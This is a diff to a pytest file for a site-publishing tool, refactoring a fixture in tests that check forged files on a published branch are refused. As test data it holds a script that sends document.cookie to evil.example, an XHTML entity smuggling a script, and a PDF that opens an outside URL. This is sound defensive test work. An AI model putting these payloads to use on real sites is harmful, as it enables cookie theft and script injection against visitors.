@@ -32,14 +32,9 @@ pytestmark = pytest.mark.usefixtures("no_identity")
 
 @pytest.fixture(scope="module")
 def first_published(tmp_path_factory) -> Project:
-    """2021-02-17 committed and published by `policy publish`: made once for the module, copied by `published`."""
+    """2021-02-17 committed and published by `policy publish`: made once for the module, each test that goes on from
+    there working on its own copy (`copy_of`)."""
     return made_once(tmp_path_factory, lambda project, _folder: (project.commit("2021-02-17"), project.publish()))
-
-
-@pytest.fixture
-def published(first_published, tmp_path) -> Project:
-    """The project with 2021-02-17 published (a copy of the module's at tmp_path/project: the test may change it)."""
-    return copy_of(first_published, tmp_path / "project")
 
 PAGE = ("<!doctype html><html lang=\"fr\"><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\" "
         "content=\"default-src 'none'\"><title>Historique</title></head><body><p>Version {n}</p>{extra}</body></html>")
@@ -114,13 +109,13 @@ def _on_branch(project, tmp_path, edit, subject: str) -> None:
     git_cmd(project.root, "worktree", "remove", "--force", str(work))
 
 
-def test_a_script_a_forged_shared_folder_serves_is_refused_by_publish_and_export(published, tmp_path):
+def test_a_script_a_forged_shared_folder_serves_is_refused_by_publish_and_export(first_published, tmp_path):
     """Safety hunt 50, part 2: a hand commit named as a rebuild added a shared theme folder holding a script, with a
     list whose digest names the folder, and a link to it in an older version's page with that page's digest in its
     manifest; one named as publishing's then edited the history page. The output check allows any local script and the
     Content-Security-Policy any of the site's origin: `policy publish` and `policy export` exited 0 and served it. Now
     both refuse, naming the folder no version links, and leave the branch and the folder as they were."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
     project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
     project.publish()
     evil = b"fetch('https://evil.example/?'+document.cookie);\n"
@@ -156,12 +151,12 @@ def test_a_script_a_forged_shared_folder_serves_is_refused_by_publish_and_export
     assert not (tmp_path / "public").exists()
 
 
-def test_a_shared_theme_folder_no_version_links_is_not_carried_by_publish(published, tmp_path):
+def test_a_shared_theme_folder_no_version_links_is_not_carried_by_publish(first_published, tmp_path):
     """Safety4, session 33: a hand commit added a shared theme folder, with the list its name is the digest of, holding
     an HTML page of its own words under the site's own Content-Security-Policy (no script, handler or outside link:
     the output check passed it); no version links the folder, and `policy publish` carried it onto the site's origin,
     exit 0 (only `policy verify` named it). Refused now, naming the folder, the branch left as it was."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
     policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"',
                        project.show("en/2021-02-17/index.html")).group(1)
     page = ('<!doctype html><html lang="en"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
@@ -323,14 +318,14 @@ def _publish_refused(project, said: str) -> None:
     ('<link rel="stylesheet" href="terms.txt">', "<link rel=“stylesheet” href=“terms.txt”> applies a file"),
     ('<link rel="modulepreload" href="terms.txt">', "<link rel=“modulepreload” href=“terms.txt”> has the page run"),
     ("search", "the theme's configuration starts its search from “terms.txt”")])
-def test_a_page_naming_a_text_of_the_site_as_its_stylesheet_script_or_worker_is_not_served(published, tmp_path,
+def test_a_page_naming_a_text_of_the_site_as_its_stylesheet_script_or_worker_is_not_served(first_published, tmp_path,
                                                                                           monkeypatch, tag, said):
     """Session 30's note: a hand commit named as a rebuild adds a text file to a version's folder (with its digest and
     the page's in the manifest) and has the page apply it as a stylesheet, preload it as a module or start Material's
     search worker from it; servedpages vouches for .js and .css files only and the output check allowed any local
     stylesheet, so `policy publish` served what a host that sniffs runs or applies. Refused now, even where that page
     was kept as passed by an older checker (the kept pages' key holds the checker's code), the branch as it was."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
     text = b"body{display:none}\n"
 
     def forge(work):
@@ -371,7 +366,7 @@ FORGED_INDEX = json.dumps({"config": {"lang": ["en"], "separator": "[\\s\\-]+", 
                                    "aliases": []}])),
     ("en/2021-02-17/x/versions-recent.json", json.dumps([{"version": "2021-02-17", "title": "17 February 2021",
                                              "aliases": ['<a href="/en/2021-02-17/">latest</a>']}]))])
-def test_a_search_index_or_list_of_versions_the_theme_shows_as_markup_is_not_served(published, tmp_path, path,
+def test_a_search_index_or_list_of_versions_the_theme_shows_as_markup_is_not_served(first_published, tmp_path, path,
                                                                                     forged):
     """Material's search uses a version's index as it is when it holds entries, and writes their titles and texts into
     the results as HTML (tests/e2e/test_privacy.py shows the forged index's link in the results); its version selector
@@ -379,7 +374,7 @@ def test_a_search_index_or_list_of_versions_the_theme_shows_as_markup_is_not_ser
     in its version's folder). A hand commit named as a rebuild putting such an index or list into a version's folder,
     its digest in the manifest, was served by `policy publish`: they are trusted through the manifest. Refused now, naming the file, the branch as it was; an index as an older build wrote it (entries holding
     the search plugin's tags) and the lists publishing writes pass, kept by blob id."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
     older = json.dumps({"config": {"lang": ["en"]}, "docs": [
         {"location": "#s1", "title": "1. Document version", "text": "<p>This <code>document</code> is dated.</p>"}]})
     with opened(project.root) as site:
@@ -419,14 +414,14 @@ def test_a_compressed_sitemap_holding_what_a_browser_runs_is_refused(tmp_path):
         found = servedpages.unsafe(site, listing)
     assert [line.partition(": ")[0] for line in found] == ["fr/2021-02-17/sitemap.xml.gz"], found
 
-def test_what_publish_and_export_refuse_on_a_branch_edited_by_hand_is_said_in_the_site_s_language(published,
-                                                                                                  tmp_path):
+def test_what_publish_and_export_refuse_on_a_branch_edited_by_hand_is_said_in_the_site_s_language(
+        first_published, tmp_path):
     """Words 31: on a French site, export's refusal named the files a hand commit added to the branch with English
     reasons inside its French sentence ('refused: an XML file holding …', 'refused: a script or stylesheet …',
     'changed since …, the newest of publishing's commits'), and publish's refusal of the same files was English whole
     ('on the branch, and written by no publication'); each reason is said in the site's language now, English as
     before."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
 
     def add(work):
         (work / "fr" / "2021-02-17" / "evil.xml").write_text('<?xml version="1.0"?><!DOCTYPE x><x/>', encoding="utf-8")
@@ -475,14 +470,14 @@ _SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}</svg>'
     ("en/2021-02-17/page.xhtml", '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY x "<h:script xmlns:h=\'http://www.w3.'
                                  'org/1999/xhtml\'>alert(1)</h:script>">]>\n<x>&x;</x>')])
 def test_an_svg_or_xhtml_page_read_as_xml_holding_what_the_html_parser_does_not_read_is_not_served(
-        published, tmp_path, page, xml):
+        first_published, tmp_path, page, xml):
     """Session 31's note on served SVG: a browser opens an .svg (and an .xhtml) as XML, and the output check read it
     with an HTML parser: an entity a DTD declares as a script (Chromium ran it), a script in a prefix's namespace
     (`<h:script>`, `<s:script>`, the namespace written with a character reference), a stylesheet instruction loading from
     another host, all passed, and a hand commit named as a rebuild putting one into a version's folder (its digest in
     the manifest) was served by `policy publish`. Each is refused now, as the configuration rules refuse such an image
     of the project's own, the branch as it was; the site's own favicon.svg passes and is kept by blob id."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
     with opened(project.root) as site:
         listing = git.list_files(site.repo, "gh-pages")
         assert servedpages.unsafe(site, listing) == []
@@ -566,14 +561,14 @@ def _script_link(pdf):
 
 
 @pytest.mark.filterwarnings("ignore:This document has 1 form widget")  # (pikepdf, of the forged form)
-def test_a_pdf_that_runs_sends_or_opens_anything_is_not_served(published, tmp_path):
+def test_a_pdf_that_runs_sends_or_opens_anything_is_not_served(first_published, tmp_path):
     """A hand commit named as a rebuild replaced a version's PDF, its digest in the manifest, by one running
     `app.launchURL('https://evil.example/')` on opening (Chromium's viewer runs a PDF's scripts), and `policy publish`
     served it (exit 0): servedpages read pages, scripts and XML only. A PDF is read now as a viewer reads it (pikepdf:
     objects packed in object streams), and one holding a script (on opening, or in the document's name tree), a form
     that sends what a reader types, or a `javascript:` link is refused, the branch as it was; the PDF publishing prints
     passes and is kept by blob id."""
-    project = published
+    project = copy_of(first_published, tmp_path / "project")
     name = "en/2021-02-17/policy-en-2021-02-17.pdf"
     printed = subprocess.run(["git", "cat-file", "blob", f"gh-pages:{name}"], cwd=project.root, capture_output=True,
                              check=True).stdout
